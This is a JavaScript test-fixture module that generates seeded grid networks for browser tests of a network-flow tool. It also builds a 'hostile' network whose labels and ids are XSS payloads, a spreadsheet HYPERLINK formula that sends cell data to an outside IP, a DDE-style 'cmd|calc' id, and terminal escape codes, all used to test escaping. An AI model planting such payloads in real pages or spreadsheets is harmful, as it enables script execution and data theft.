// Generated networks for the browser tests (Apportion JSON, core/FORMAT.md). Seeded, so
// every run sees the same ones. Invented data, for load and timing only.
export function rng(seed) {
  let s = seed >>> 0;
  return () => ((s = (Math.imul(s, 1664525) + 1013904223) >>> 0) / 4294967296);
}

// A side x side grid with arcs both ways, capacities 5..50, and `demands` random pairs,
// at most `reach` rows and columns apart.
export function grid(side, demands, seed, name, reach = side) {
  const r = rng(seed);
  const nodes = [], arcs = [], ds = [];
  for (let y = 0; y < side; y++)
    for (let x = 0; x < side; x++) nodes.push({ id: `g${y}-${x}`, x: x * 60, y: y * 60 });
  const link = (a, b) => {
    arcs.push({ id: `a${arcs.length}`, from: a, to: b, capacity: 5 + Math.floor(r() * 46) });
  };
  for (let y = 0; y < side; y++)
    for (let x = 0; x < side; x++) {
      if (x + 1 < side) { link(`g${y}-${x}`, `g${y}-${x + 1}`); link(`g${y}-${x + 1}`, `g${y}-${x}`); }
      if (y + 1 < side) { link(`g${y}-${x}`, `g${y + 1}-${x}`); link(`g${y + 1}-${x}`, `g${y}-${x}`); }
    }
  while (ds.length < demands) {
    const ox = Math.floor(r() * side), oy = Math.floor(r() * side);
    const dx = Math.min(side - 1, Math.max(0, ox + Math.round((r() * 2 - 1) * reach)));
    const dy = Math.min(side - 1, Math.max(0, oy + Math.round((r() * 2 - 1) * reach)));
    if (dx !== ox || dy !== oy) ds.push({ id: `d${ds.length}`, origin: `g${oy}-${ox}`, destination: `g${dy}-${dx}`, amount: 'max' });
  }
  return JSON.stringify({ format: 'apportion-network', version: 1, name, nodes, arcs, demands: ds });
}

// Names that would do harm if a page or a spreadsheet interpreted them.
export function hostile() {
  const nodes = [
    { id: 'A', label: '<script>window.__pwned = 1</script>', x: 0, y: 0 },
    { id: 'B', label: '<svg onload="window.__pwned = 2"><img src=x onerror="window.__pwned = 3">', x: 200, y: 0 },
    { id: 'C', label: '=HYPERLINK("http://198.51.100.7/?"&A1, "open")', x: 100, y: 150 },
    { id: 'D', label: '@SUM(1+1)\u0007\u001b[31m', x: 300, y: 150 },
  ];
  const arcs = [
    { id: '+cmd|calc', from: 'A', to: 'B', capacity: 10 },
    { id: '-2+3', from: 'B', to: 'D', capacity: 10 },
    { id: 'a&b"c\'', from: 'A', to: 'C', capacity: 10 },
    { id: 'c-d', from: 'C', to: 'D', capacity: 10 },
  ];
  const demands = [{ id: '=1+2', label: '</title><script>window.__pwned = 4</script>', origin: 'A', destination: 'D', amount: 'max' }];
  return JSON.stringify({ format: 'apportion-network', version: 1, name: '<b>hostile</b>', nodes, arcs, demands });
}
